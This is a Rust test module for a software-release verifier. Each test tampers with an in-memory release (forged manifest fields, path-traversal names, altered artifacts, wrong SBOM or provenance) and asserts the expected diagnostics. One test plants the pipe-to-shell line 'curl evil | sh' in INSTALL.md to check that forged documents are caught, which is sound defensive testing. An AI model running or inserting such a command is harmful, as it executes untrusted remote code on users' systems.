//! Each check against a small release in memory, spoiled in one way.

use std::collections::BTreeMap;

use evidence::bundle::{self, Bundle, Content, Timestamp};
use evidence::{PublicKey, Refusal, Verified};
use model::{
    Artifact, ArtifactKind, Diagnostic, Diagnostics, Digest, Document, DocumentKind, EvidenceKind,
    FileEntry, Format, Manifest, Platform, Release, ReleaseFacts, Signing, ToolUse, UnitId,
    Version,
};

use super::*;

mod signers;

/// The formats of the product.
static FORMATS: &[&dyn Inspects] = &[&pypi::Pypi, &oci::Oci, &helm::Helm, &binary::Binary];

/// A folder in memory.
#[derive(Clone, Default)]
struct Memory(BTreeMap<String, Vec<u8>>);

impl Memory {
    fn put(&mut self, path: &str, text: &str) -> FileEntry {
        self.0.insert(path.to_owned(), text.into());
        let digest = Digest::of(text.as_bytes());
        FileEntry { path: path.to_owned(), size: text.len() as u64, digest }
    }
}

impl Dist for Memory {
    fn entries(&self) -> Result<Vec<Entry>, Diagnostic> {
        let entry = |path: &String| Entry { path: path.clone(), regular: true };
        Ok(self.0.keys().map(entry).collect())
    }

    fn read(&self, path: &str, limit: u64) -> Result<Vec<u8>, Diagnostic> {
        let missing = || Diagnostic::new(&model::codes::FILE_MISSING, "is not there");
        let bytes = self.0.get(path).ok_or_else(missing)?;
        if bytes.len() as u64 > limit {
            return Err(Diagnostic::new(&model::codes::FILE_TOO_LARGE, "is too large"));
        }
        Ok(bytes.clone())
    }

    fn size(&self, path: &str) -> Result<u64, Diagnostic> {
        self.read(path, u64::MAX).map(|bytes| bytes.len() as u64)
    }

    fn measure(&self, path: &str) -> Result<(u64, Digest), Diagnostic> {
        let bytes = self.read(path, u64::MAX)?;
        Ok((bytes.len() as u64, Digest::of(&bytes)))
    }
}

/// Formats of which every artifact reads `good`, and every SBOM is the artifact's digest.
struct Formats;

impl Inspect for Formats {
    fn formats(&self) -> &[&dyn Inspects] {
        FORMATS
    }

    fn contents(&self, artifact: &Artifact, dist: &dyn Dist) -> Diagnostics {
        match dist.read(&artifact.file.path, 9) {
            Ok(bytes) if bytes == b"good" => Diagnostics::new(),
            _ => Diagnostic::new(&codes::FILE_DIGEST, "is not good").into(),
        }
    }

    fn documents(&self, manifest: &Manifest) -> Vec<(String, String)> {
        vec![("INSTALL.md".to_owned(), format!("install {}\n", manifest.release.version))]
    }

    fn sbom(&self, artifact: &Artifact, text: &str) -> Result<usize, Diagnostic> {
        if text == artifact.file.digest.to_string() {
            return Ok(1);
        }
        Err(Diagnostic::new(&components::codes::SBOM_SUBJECT, "describes something else"))
    }
}

struct NoSignatures;

impl SignatureCheck for NoSignatures {
    fn verify(
        &self,
        bundle: &Bundle,
        _: &Digest,
        trusted: &[TrustedSigner],
    ) -> Result<Verified, Refusal> {
        bundle.keys(trusted)?;
        Err(Diagnostic::new(&evidence::codes::SIGNATURE_INVALID, "is not right").into())
    }
}

/// Takes every signature for good.
struct AnySignature;

impl SignatureCheck for AnySignature {
    fn verify(
        &self,
        bundle: &Bundle,
        _: &Digest,
        trusted: &[TrustedSigner],
    ) -> Result<Verified, Refusal> {
        bundle
            .keys(trusted)
            .map(|(key, _)| Verified::by(TrustedSigner::Key(key.clone()).identity()))
    }
}

fn key() -> PublicKey {
    PublicKey::from_point(&[&[4][..], &[1; 64]].concat()).unwrap()
}

/// The bundle over `signed`, a file or a statement.
fn by_key(kind: EvidenceKind, signed: Vec<u8>) -> Bundle {
    // DER of r = 1, s = 2.
    let signature = vec![0x30, 6, 2, 1, 1, 2, 1, 2];
    let content = match kind {
        EvidenceKind::Bundle => Content::Message { digest: Digest::of(&signed), signature },
        _ => Content::Envelope {
            payload_type: evidence::dsse::IN_TOTO_PAYLOAD.to_owned(),
            payload: signed,
            signature,
        },
    };
    Bundle::new(bundle::Signer::Key(key().hint()), content)
}

fn unsealed(file: FileEntry) -> Manifest {
    let artifact = Artifact {
        unit: UnitId::new("a", binary::FORMAT, Some(Platform::LinuxAmd64)),
        package: "a".to_owned(),
        format: binary::FORMAT,
        kind: binary::BINARY,
        platform: Some(Platform::LinuxAmd64),
        version: "1.0.0".to_owned(),
        reference: String::new(),
        file,
        files: Vec::new(),
        materials: Vec::new(),
        notes: Vec::new(),
    };
    let _version = "0.1.0".to_owned();
    Manifest {
        source: ReleaseFacts { epoch: 315_532_800, ..ReleaseFacts::default() },
        plan: Digest::of(b"plan"),
        artifacts: vec![artifact],
        ..Manifest::new(
            ToolUse::default(),
            Release {
                registry: "localhost".to_owned(),
                charts: "localhost/charts".to_owned(),
                ..Release::new(Version::parse("1.0.0").unwrap())
            },
        )
    }
}

/// A whole release of one artifact, not signed.
fn sealed() -> (Memory, Manifest) {
    sealed_as(Signing::NONE)
}

/// A whole release of one artifact, signed in one of the ways: by [`key`], as [`AnySignature`] has
/// it.
fn sealed_as(signing: Signing) -> (Memory, Manifest) {
    let mut dist = Memory::default();
    let mut manifest = unsealed(dist.put("binary/a-linux-amd64", "good"));
    manifest.signing = signing;
    let digest = Digest::of(b"good").to_string();
    let add = |manifest: &mut Manifest, kind, about: Option<&str>, components, file| {
        let about = about.map(str::to_owned);
        manifest.documents.push(Document { kind, about, components, file });
        manifest.documents.sort_by(|a, b| a.file.path.cmp(&b.file.path));
    };
    let sbom = dist.put("sbom/a-linux-amd64.spdx.json", &digest);
    add(&mut manifest, DocumentKind::Sbom, Some("binary/a-linux-amd64"), 1, sbom);
    for (path, text) in provenance(&manifest, FORMATS).unwrap() {
        let file = dist.put(&path, &text);
        add(&mut manifest, DocumentKind::Provenance, None, 0, file);
    }
    manifest.evidence = evidence_of(&manifest, FORMATS);
    manifest.assets = assets_of(&manifest, FORMATS).unwrap();
    let lists = [
        ("checksums.txt", all_digests(&manifest)),
        ("github/checksums.txt", download_digests(&manifest)),
    ];
    for (path, entries) in lists {
        let file = dist.put(path, &evidence::checksums::render(&entries));
        add(&mut manifest, DocumentKind::Checksums, None, 0, file);
    }
    manifest.evidence = evidence_of(&manifest, FORMATS);
    manifest.assets = assets_of(&manifest, FORMATS).unwrap();
    dist.put(Manifest::FILE, &manifest.render().unwrap());
    for item in &manifest.evidence {
        let signed = dist.0.get(item.about.as_deref().unwrap_or_default()).cloned();
        let text = match item.kind {
            EvidenceKind::PublicKey => key().pem(),
            kind => by_key(kind, signed.unwrap()).render().unwrap(),
        };
        dist.put(&item.path, &text);
    }
    for (path, text) in Formats.documents(&manifest) {
        dist.put(&path, &text);
    }
    for asset in &manifest.assets {
        let bytes = dist.0[&asset.path].clone();
        dist.0.insert(format!("github/{}", asset.name), bytes);
    }
    (dist, manifest)
}

/// Spoils a good release and expects these codes, each once, at these files.
fn check(spoil: impl Fn(&mut Memory), expected: &[(&str, &str)]) {
    let (mut dist, _) = sealed();
    spoil(&mut dist);
    let report = verify(&dist, &Formats, &NoSignatures, &Policy::default());
    let problems = report.problems();
    let mut found: Vec<(&str, &str)> = problems
        .0
        .iter()
        .map(|problem| (problem.code.name, problem.location.as_ref().unwrap().file.as_str()))
        .collect();
    found.sort_unstable();
    assert_eq!(found, expected);
    assert_eq!(report.is_good(), expected.is_empty());
}

/// Changes the manifest and renders it anew, as a forger would.
fn forged(dist: &mut Memory, change: impl Fn(&mut Manifest)) {
    let mut manifest: Manifest = serde_json::from_slice(&dist.0[Manifest::FILE]).unwrap();
    change(&mut manifest);
    let text = manifest.render().unwrap();
    dist.put(Manifest::FILE, &text);
    dist.put("github/release.json", &text);
}

#[test]
fn a_release_as_it_was_sealed_is_good() {
    check(|_| {}, &[]);
}

#[test]
fn an_artifact_is_what_its_unit_leaves() {
    let check_artifact = |change: fn(&mut Artifact)| {
        let change =
            |dist: &mut Memory| forged(dist, |manifest| change(&mut manifest.artifacts[0]));
        check(change, &[("manifest-artifact", Manifest::FILE)]);
    };
    check_artifact(|artifact| artifact.package = "../../b".to_owned());
    check_artifact(|artifact| artifact.package = "b".to_owned());
    check_artifact(|artifact| artifact.platform = None);
    check_artifact(|artifact| artifact.kind = helm::CHART);
    check_artifact(|artifact| artifact.unit = UnitId("a/binary".to_owned()));
}

#[test]
fn a_changed_artifact_is_named_by_every_check_that_sees_it() {
    check(
        |dist| drop(dist.put("binary/a-linux-amd64", "evil")),
        &[
            ("asset-bytes", "github/a-linux-amd64"),
            ("file-digest", "binary/a-linux-amd64"),
            ("file-digest", "binary/a-linux-amd64"),
        ],
    );
}

#[test]
fn files_too_few_and_too_many_are_named() {
    check(|dist| drop(dist.put("binary/b", "")), &[("file-extra", "binary/b")]);
    check(|dist| drop(dist.put("journal.jsonl", "{}")), &[("file-extra", "journal.jsonl")]);
    check(
        |dist| drop(dist.0.remove("github/a-linux-amd64")),
        &[("file-missing", "github/a-linux-amd64"), ("file-missing", "github/a-linux-amd64")],
    );
    check(
        |dist| drop(dist.0.remove("INSTALL.md")),
        &[("file-missing", "INSTALL.md"), ("file-missing", "INSTALL.md")],
    );
}

#[test]
fn a_document_that_is_no_function_of_the_manifest_is_named() {
    check(
        |dist| drop(dist.put("INSTALL.md", "curl evil | sh\n")),
        &[("document-rendering", "INSTALL.md")],
    );
}

#[test]
fn a_manifest_that_nobody_could_rely_on_ends_the_verification() {
    check(|dist| drop(dist.0.remove("release.json")), &[("file-missing", "release.json")]);
    check(|dist| drop(dist.put("release.json", "{")), &[("manifest-unreadable", "release.json")]);
    check(
        |dist| forged(dist, |manifest| manifest.schema = "other/1".to_owned()),
        &[("manifest-schema", "release.json")],
    );
    check(
        |dist| forged(dist, |manifest| manifest.artifacts[0].file.path = "../a".to_owned()),
        &[("manifest-path", "release.json")],
    );
}

#[test]
fn a_manifest_in_another_spelling_is_named() {
    let respell = |dist: &mut Memory| {
        let text = String::from_utf8(dist.0[Manifest::FILE].clone()).unwrap() + "\n";
        dist.put(Manifest::FILE, &text);
        dist.put("github/release.json", &text);
    };
    check(respell, &[("manifest-rendering", "release.json")]);
}

#[test]
fn what_the_manifest_must_list_cannot_be_left_out() {
    check(
        |dist| forged(dist, |manifest| manifest.assets.truncate(1)),
        &[
            ("assets-listed", "release.json"),
            ("checksums-rendering", "github/checksums.txt"),
            ("file-extra", "github/a-linux-amd64.spdx.json"),
            ("file-extra", "github/release.intoto.json"),
            ("file-extra", "github/release.json"),
        ],
    );
}

#[test]
fn an_sbom_about_something_else_is_named() {
    check(
        |dist| {
            let digest = Digest::of(b"other");
            dist.put("sbom/a-linux-amd64.spdx.json", &digest.to_string());
            dist.put("github/a-linux-amd64.spdx.json", &digest.to_string());
        },
        &[
            ("file-digest", "sbom/a-linux-amd64.spdx.json"),
            ("sbom-subject", "sbom/a-linux-amd64.spdx.json"),
        ],
    );
}

#[test]
fn provenance_names_the_subject_that_is_no_artifact() {
    let (dist, manifest) = sealed();
    let text = String::from_utf8(dist.0["provenance/release.intoto.json"].clone()).unwrap();
    let other = text.replace(&Digest::of(b"good").hex(), &Digest::of(b"evil").hex());
    assert_ne!(text, other);
    let mut spoiled = dist;
    spoiled.put("provenance/release.intoto.json", &other);
    let report = verify(&spoiled, &Formats, &NoSignatures, &Policy::default());
    let problems = report.problems();
    let problem =
        problems.0.iter().find(|problem| problem.code.name == "provenance-subjects").unwrap();
    assert!(problem.message.contains("a-linux-amd64"), "{}", problem.message);
    assert_eq!(manifest.artifacts.len(), report.artifacts);
}

#[test]
fn a_large_release_offers_less_as_downloads() {
    let (_, manifest) = sealed();
    let many = |count: usize, format: Format, kind: ArtifactKind| {
        let mut manifest = manifest.clone();
        let artifact = |number: usize| {
            let mut artifact = manifest.artifacts[0].clone();
            artifact.file.path = format!("{format}/a-{number}");
            (artifact.format, artifact.kind) = (format, kind);
            artifact
        };
        let artifacts: Vec<Artifact> = (0..count).map(artifact).collect();
        manifest.artifacts = artifacts;
        manifest.documents.clear();
        manifest.signing = Signing::LOCAL;
        manifest.evidence = evidence_of(&manifest, FORMATS);
        assets_of(&manifest, FORMATS).unwrap().len()
    };
    // The manifest, its bundle and the key are always there.
    assert_eq!(many(100, pypi::FORMAT, pypi::WHEEL), 100 * 2 + 3);
    assert_eq!(many(500, pypi::FORMAT, pypi::WHEEL), 500 + 3);
    assert_eq!(many(2_000, pypi::FORMAT, pypi::WHEEL), 3);
    assert_eq!(many(950, binary::FORMAT, binary::BINARY), 950 + 3);
}
